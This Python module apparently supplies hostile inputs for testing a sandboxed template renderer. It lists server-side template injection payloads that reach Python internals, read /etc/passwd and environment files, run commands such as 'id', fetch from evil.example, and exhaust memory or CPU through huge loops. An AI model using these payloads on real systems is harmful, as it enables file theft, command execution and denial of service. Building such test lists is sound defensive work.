"""Templates that want more than their variables: objects, files, templates, or all the time."""

_ATTRIBUTES = """
__class__ __class__.__mro__ __class__.__base__.__subclasses__ __init__.__globals__ __dict__
__globals__ __builtins__ __import__ __module__ __doc__ __code__ __func__ __self__ __closure__
__reduce_ex__ __subclasshook__ __getattribute__ __format__ __wrapped__ func_globals mro gi_frame
cr_frame f_globals f_back f_builtins f_code tb_frame env environ config settings app request g
session self cycler joiner namespace lipsum url_for get_flashed_messages database vault
encode.__globals__ format.__self__ upper.__func__ join.__class__
""".split()  # noqa: SIM905  a table reads better
_PLACES = ("name", "''", "1", "(1..3)", "missing")

_REACHING = ["{{ name['" + name + "'] }}" for name in _ATTRIBUTES] + [
    "{{ " + f"{place}.{name}" + " }}" for place in _PLACES[:2] for name in _ATTRIBUTES
]

_OTHERS = """
{% include 'x' %}
{% include '/etc/passwd' %}
{% include '../../../../etc/passwd' %}
{% include name %}
{% render 'x' %}
{% render '/proc/self/environ' %}
{% extends 'x' %}
{% import os %}
{% from os import popen %}
{% set x = 1 %}
{% layout 'x' %}
{% block x %}{% endblock %}
{% macro x %}{% endmacro %}
{% call x %}
{% php %}system('id'){% endphp %}
{% python %}import os{% endpython %}
{% eval name %}
{% debug %}
{% load x %}
{% ssi /etc/passwd %}
{% with x as y %}{% endwith %}
{% liquid
include 'x' %}
{{ self }}
{{ self.__dict__ }}
{{ this }}
{{ context }}
{{ environment }}
{{ globals }}
{{ locals }}
{{ config.items() }}
{{ request.application.__globals__ }}
{{ ''.__class__.__mro__[1].__subclasses__() }}
{{ [].__class__.__base__.__subclasses__()[40]('/etc/passwd').read() }}
{{ name.__class__ | map: '__mro__' }}
{{ name | map: '__class__' }}
{{ name | split: '' | map: '__class__' }}
{{ 'os' | import }}
{{ '/etc/passwd' | read }}
{{ '/etc/passwd' | file }}
{{ 'id' | system }}
{{ 'id' | exec }}
{{ 'id' | shell }}
{{ 'https://evil.example' | fetch }}
{{ 'x' | template }}
{{ 'x' | render }}
{{ name | safe }}
{{ name | raw }}
{{ name | attr: '__class__' }}
{{ name | send: 'system' }}
{{ name | instance_eval }}
{{ name | constantize }}
{{ name | json: '__class__' }}
{{ name | getattr: '__class__' }}
{{ name | format: '{0.__class__}' }}
{{ '{0.__class__}' | format: name }}
{{ '%s' | format: name }}
{{ name | append: '{{ secret }}' }}
{{ '{{ secret }}' }}
{% assign x = '{{ secret }}' %}{{ x }}
{% capture x %}{{ '{{' }} secret }}{% endcapture %}{{ x }}
{% raw %}{{ secret }}{% endraw %}
{%- comment -%}{{ secret }}{%- endcomment -%}
${7*7}
${{7*7}}
#{7*7}
#{ `id` }
<%= 7*7 %>
<%= system('id') %>
*{7*7}
@(7*7)
[[${7*7}]]
{{7*'7'}}
{{ 7*7 }}
{{= 7*7 }}
{php}echo 1;{/php}
{{constructor.constructor('return process')()}}
{{#with "s" as |string|}}{{/with}}
{{ range.constructor("return global.process.env")() }}
{% for x in (1..999999999) %}a{% endfor %}
{% for x in (1..100000) %}{% for y in (1..100000) %}a{% endfor %}{% endfor %}
{% assign a = 'aaaa' %}{% for i in (1..999) %}{% assign a = a | append: a %}{% endfor %}{{ a }}
{{ 'a' | replace: '', 'aaaaaaaaaaaaaaa' | replace: 'a', name | replace: 'd', 'aaaaaaaaaaaaaaaa' }}
{{ 9999999999 | times: 9999999999 | times: 9999999999 | times: 9999999999 | times: 9999999999 }}
{{ 2 | pow: 999999999 }}
{{ '9' | times: '9e999999' }}
{{ 1 | divided_by: 0 }}
{{ 1 | modulo: 0 }}
{{ (1..99999999999) | join: 'a' }}
{{ (1..99999999999) | size }}
{{ (1..99999999999) | reverse | first }}
{{ (1..9999999) | sort | last }}
{{ name | truncate: 99999999999 }}
{{ name | slice: -99999999999, 99999999999 }}
{{ 'now' | date: '%Y%999999999d' }}
{{ name | date: '%s%n%t%C%e%999s' }}
{% cycle 'a', 'b' %}
{% tablerow i in (1..99999999) cols:99999999 %}x{% endtablerow %}
{% increment x %}{% decrement x %}
{% case name %}{% when '__class__' %}leak{% endcase %}
{% if name contains '__class__' %}leak{% endif %}
{% unless name.__class__ %}fine{% endunless %}
{% if name.__class__.__name__ == 'str' %}leak{% endif %}
{% for x in name.__dict__ %}leak{% endfor %}
{% for x in name.__class__ %}leak{% endfor %}
{{ name.first.first.first.first }}
{{ name[0][0][0][0].__class__ }}
{{ name.size.__class__ }}
{{ name.last.__init__ }}
{{ forloop.parentloop.parentloop }}
{{ blank.__class__ }}
{{ nil.__class__ }}
{{ empty.__class__ }}
{{ true.__class__.__mro__ }}
""".splitlines()

PAYLOADS = [*_REACHING, *filter(None, _OTHERS)]
